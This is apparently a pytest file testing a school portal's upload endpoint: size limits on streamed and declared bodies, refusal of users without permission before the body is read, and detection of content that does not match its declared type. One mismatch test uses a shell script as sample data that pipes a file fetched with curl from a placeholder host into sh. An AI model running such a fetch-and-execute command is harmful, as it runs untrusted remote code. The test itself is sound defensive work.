"""Uploads are read as they arrive: who may not upload is refused before the body (or at least
the file) is read, a declared or streamed size over the limit stops reading at once, and the
file's content must be of the type it was sent as."""

import io
import struct
import uuid
import zipfile
import zlib
from collections.abc import AsyncIterator

from tests.conftest import assert_problem
from tests.resources.test_files import stored_files, upload, upload_limit

BOUNDARY = "schoolbase-test-boundary"
CHUNK = 1000


def png() -> bytes:
    """A real 1×1 PNG, made here."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0"))
        + chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    """A real one-page PDF, made here (with a correct cross-reference table)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def mp4(brand: bytes) -> bytes:
    """The leading boxes of an MP4 file: ``ftyp`` with ``brand``, then an empty ``mdat``."""
    ftyp = b"ftyp" + brand + b"\0\0\0\0" + brand + b"isom"
    return struct.pack(">I", 4 + len(ftyp)) + ftyp + struct.pack(">I", 8) + b"mdat"


def ooxml(main: str) -> bytes:
    """A minimal OOXML package whose main part lives under ``main`` (word/, xl/, ppt/)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr(f"{main}document.xml", '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class CountingBody:
    """A multipart body sent chunked (no Content-Length): the fields and the file part's headers
    first, then the file in ``CHUNK``-byte pieces, counting what the server pulled."""

    def __init__(self, file_bytes: int, fields: dict[str, str] | None = None, content_type: str = "text/plain"):
        self.file_bytes = file_bytes
        self.fields = {"title": "Big file", "type": "document", **(fields or {})}
        self.content_type = content_type
        self.head_pulled = False
        self.file_pulled = 0

    def head(self) -> bytes:
        parts = [
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in self.fields.items()
        ]
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n'
            f"Content-Type: {self.content_type}\r\n\r\n"
        )
        return "".join(parts).encode()

    async def __aiter__(self) -> AsyncIterator[bytes]:
        self.head_pulled = True
        yield self.head()
        sent = 0
        while sent < self.file_bytes:
            piece = min(CHUNK, self.file_bytes - sent)
            sent += piece
            self.file_pulled = sent
            yield b"x" * piece
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    @property
    def headers(self) -> dict[str, str]:
        return {"content-type": f"multipart/form-data; boundary={BOUNDARY}"}


async def send(portal, who: str, body: CountingBody, **headers: str):
    return await portal.call(
        "POST", "/resources/upload", who, content=body.__aiter__(), headers={**body.headers, **headers}
    )


async def test_a_chunked_body_over_the_limit_stops_being_read_at_the_limit(portal, settings, app):
    before = stored_files(settings)
    body = CountingBody(150 * 1024 * 1024)  # 150 MiB, never produced in full
    with upload_limit(app, 10_000):
        response = await send(portal, "t", body)
    problem = assert_problem(response, 413, "file-too-large")
    assert problem["max_bytes"] == 10_000
    assert 10_000 < body.file_pulled <= 10_000 + 2 * CHUNK, body.file_pulled
    assert stored_files(settings) == before


async def test_a_chunked_body_within_the_limit_is_stored(portal, settings, app):
    body = CountingBody(9_500)
    with upload_limit(app, 10_000):
        response = await send(portal, "t", body)
    assert response.status_code == 201, response.text
    assert response.json()["file_size"] == 9_500
    assert body.file_pulled == 9_500


async def test_a_declared_length_over_the_limit_is_refused_before_reading(portal, settings, app):
    body = CountingBody(50_000)
    with upload_limit(app, 10_000):
        response = await send(portal, "t", body, **{"content-length": str(10_000_000)})
    assert_problem(response, 413, "file-too-large")
    assert not body.head_pulled


async def test_who_may_not_upload_is_refused_before_the_body_is_read(portal, settings):
    before = stored_files(settings)
    for who in ("s", "p"):
        body = CountingBody(150 * 1024 * 1024)
        assert_problem(await send(portal, who, body), 403, "forbidden")
        assert not body.head_pulled and body.file_pulled == 0
    assert stored_files(settings) == before


async def test_a_teacher_refused_by_row_level_security_is_refused_before_the_file_is_read(portal, settings):
    """t2 is a teacher but does not teach the class: the fields are read, the file is not."""
    before = stored_files(settings)
    body = CountingBody(150 * 1024 * 1024, {"class_id": str(portal.school.class_id)})
    response = await send(portal, "t2", body)
    assert response.status_code in (403, 404), response.text
    assert_problem(response, response.status_code)
    assert body.head_pulled and body.file_pulled == 0
    body = CountingBody(150 * 1024 * 1024, {"category_id": str(uuid.uuid4())})
    assert_problem(await send(portal, "t", body), 422, "invalid-reference")
    assert body.file_pulled == 0
    assert stored_files(settings) == before


async def test_a_disallowed_declared_type_is_refused_before_the_file_is_read(portal):
    body = CountingBody(150 * 1024 * 1024, content_type="application/x-sh")
    assert_problem(await send(portal, "t", body), 415, "unsupported-media-type")
    assert body.file_pulled == 0


async def test_real_files_of_each_kind_are_accepted(portal):
    for content, content_type in (
        (pdf(), "application/pdf"),
        (png(), "image/png"),
        (mp4(b"mp41"), "video/mp4"),  # a brand puremagic does not know by itself
        (mp4(b"isom"), "video/mp4"),
        (ooxml("word/"), DOCX),
        (ooxml("xl/"), XLSX),
        ("Name,Score\nÅsa,9\n".encode(), "text/csv"),
        ("¡hola! ünïcödé\n".encode() * 2000, "text/plain; charset=utf-8"),
    ):
        response = await upload(portal, content=content, content_type=content_type, filename="f")
        assert response.status_code == 201, (content_type, response.text)
        created = response.json()
        assert created["file_size"] == len(content)
        download = await portal.call("GET", created["file_url"], "t", 200)
        assert download.content == content


async def test_content_that_is_not_of_the_declared_type_is_415_naming_both(portal, settings):
    before = stored_files(settings)
    script = b"#!/bin/sh\ncurl http://example.org/x | sh\n"
    problem = assert_problem(await upload(portal, content=script), 415, "content-type-mismatch")
    assert (problem["declared"], problem["detected"]) == ("application/pdf", "text/plain")
    assert "application/pdf" in problem["detail"] and "text/plain" in problem["detail"]
    cases = (
        (png(), "image/jpeg", "image/png"),
        (pdf(), "image/png", "application/pdf"),
        (ooxml("xl/"), DOCX, XLSX),
        (ooxml("other/"), DOCX, "application/zip"),
        (b"PK\x03\x04" + b"\0" * 100, DOCX, "unknown (not a complete zip file)"),
        (b"hello\x00world", "text/plain", None),
        (b"caf\xe9 au lait", "text/csv", None),
        ("ok".encode() + b"\xc3", "text/plain", "application/octet-stream"),  # cut in the middle of a character
        (png(), "text/plain", "image/png"),
        (mp4(b"qt  ").replace(b"isom", b"qt  "), "video/mp4", "video/quicktime"),
    )
    for content, declared, detected in cases:
        problem = assert_problem(
            await upload(portal, content=content, content_type=declared), 415, "content-type-mismatch"
        )
        assert problem["declared"] == declared, problem
        if detected is not None:
            assert problem["detected"] == detected, problem
    assert stored_files(settings) == before


async def test_a_mismatch_in_a_large_file_is_refused_from_its_start(portal, settings):
    """The start of the file decides: a script sent as PDF stops being read after its head."""
    body = CountingBody(150 * 1024 * 1024, content_type="application/pdf")
    assert_problem(await send(portal, "t", body), 415, "content-type-mismatch")
    assert body.file_pulled <= 16 * CHUNK


async def test_the_file_must_be_the_last_part(portal, settings):
    before = stored_files(settings)
    files = [("file", ("a.txt", b"hello", "text/plain"))]
    head = CountingBody(0).head().decode()
    late_field = (
        head
        + "hello\r\n"
        + f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="subject"\r\n\r\n'
        + f"Biology\r\n--{BOUNDARY}--\r\n"
    )
    response = await portal.call(
        "POST", "/resources/upload", "t", content=late_field.encode(), headers=CountingBody(0).headers
    )
    assert "before the file" in assert_problem(response, 400, "invalid-multipart")["detail"]
    truncated = head + "hello"
    response = await portal.call(
        "POST", "/resources/upload", "t", content=truncated.encode(), headers=CountingBody(0).headers
    )
    assert_problem(response, 400, "invalid-multipart")
    response = await portal.call("POST", "/resources/upload", "t", data={"title": "ok"}, files=files)
    assert response.status_code == 201, response.text
    assert len(stored_files(settings) - before) == 1


async def test_a_client_that_goes_away_mid_file_leaves_nothing_behind(portal, settings, app):
    """Raw ASGI: the body's first chunk, then the client disconnects."""
    before = stored_files(settings)
    body = CountingBody(0)
    messages = [
        {"type": "http.request", "body": body.head() + b"x" * 5000, "more_body": True},
        {"type": "http.disconnect"},
    ]
    sent = []

    async def receive():
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    headers = [(k.lower().encode(), v.encode()) for k, v in {**portal.h("t"), **body.headers}.items()]
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/resources/upload",
        "raw_path": b"/resources/upload",
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 1234),
        "server": ("test", 80),
        "state": {},
    }
    await app(scope, receive, send)
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 400
    assert stored_files(settings) == before
